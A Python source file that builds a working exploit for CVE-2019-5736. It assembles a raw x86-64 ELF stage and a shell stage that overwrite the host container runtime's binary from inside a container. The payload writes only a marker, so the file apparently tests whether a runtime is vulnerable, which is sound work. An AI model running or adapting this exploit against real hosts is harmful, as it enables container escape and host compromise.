"""The attack of CVE-2019-5736 on a runtime: overwrite the program of the host that joins a container.

An image has a script with the interpreter `/proc/self/exe`. When the runtime executes it, the kernel starts the
runtime's own program again, now inside the container, and with it the loader that this names, which is the image's:

    stage one, in the loader's place: keep a descriptor of /proc/self/exe, and execute stage two
    stage two, a shell script: as soon as nobody executes that program any more, write to the descriptor

https://nvd.nist.gov/vuln/detail/CVE-2019-5736
"""

import os
import struct
from pathlib import Path

KEPT = 9
"""The descriptor that stage one hands to stage two."""

STAGE_TWO = f"""#!/bin/sh
tries=0
while [ $tries -lt 60 ]; do
    if (echo OVERWRITTEN > /proc/self/fd/{KEPT}) 2> /why; then
        echo written | tee /result
        exit
    fi
    tries=$((tries + 1))
    sleep 0.05
done
echo kept | tee /result
"""


def prepare(rootfs: Path, victim: Path) -> None:
    """Put the attack into a root filesystem that has busybox. Its program is `/attack`; the verdict is printed.

    Args:
        rootfs: the root filesystem.
        victim: the host's program that the runtime runs from; only its loader's name is taken from it.
    """
    loader = rootfs / interpreter_of(victim).lstrip("/")
    loader.parent.mkdir(parents=True, exist_ok=True)
    write_program(loader, stage_one())
    write_program(rootfs / "attack", b"#!/proc/self/exe\n")
    write_program(rootfs / "stage-two", STAGE_TWO.encode())


def write_program(path: Path, content: bytes) -> None:
    path.write_bytes(content)
    os.chmod(path, 0o755)


def interpreter_of(program: Path) -> str:
    """The loader that an ELF program asks for (PT_INTERP)."""
    content = program.read_bytes()
    (table,) = struct.unpack_from("<Q", content, 32)
    size, count = struct.unpack_from("<HH", content, 54)
    for number in range(count):
        kind, _, offset, _, _, length = struct.unpack_from("<IIQQQQ", content, table + number * size)
        if kind == 3:
            return content[offset : offset + length].rstrip(b"\0").decode()
    raise AssertionError(f"{program} is a static program: the attack needs another way in")


def stage_one() -> bytes:
    """A position-independent ELF program for x86-64 of three system calls: open, dup2, execve."""
    code = bytearray()

    def address_of(target: bytes) -> None:
        """lea rdi, [rip + …]: filled in once the place of the text is known."""
        code.extend(b"\x48\x8d\x3d")
        fixups.append((len(code), target))
        code.extend(bytes(4))

    fixups: list[tuple[int, bytes]] = []
    address_of(b"/proc/self/exe\0")
    code += b"\x31\xf6"  # xor esi, esi: O_RDONLY
    code += b"\xb8\x02\x00\x00\x00\x0f\x05"  # open
    code += b"\x89\xc7\xbe" + struct.pack("<I", KEPT)  # mov edi, eax; mov esi, KEPT
    code += b"\xb8\x21\x00\x00\x00\x0f\x05"  # dup2
    address_of(b"/stage-two\0")
    code += b"\x31\xd2\x52\x57\x48\x89\xe6"  # xor edx, edx; push rdx; push rdi; mov rsi, rsp
    code += b"\xb8\x3b\x00\x00\x00\x0f\x05"  # execve
    code += b"\xbf\x01\x00\x00\x00\xb8\x3c\x00\x00\x00\x0f\x05"  # exit(1)
    for place, text in fixups:
        struct.pack_into("<i", code, place, len(code) - place - 4)
        code += text
    headers = 64 + 56
    size = headers + len(code)
    elf = struct.pack("<16sHHIQQQIHHHHHH", b"\x7fELF\x02\x01\x01", 3, 62, 1, headers, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    load = struct.pack("<IIQQQQQQ", 1, 5, 0, 0, 0, size, size, 0x1000)
    return elf + load + bytes(code)
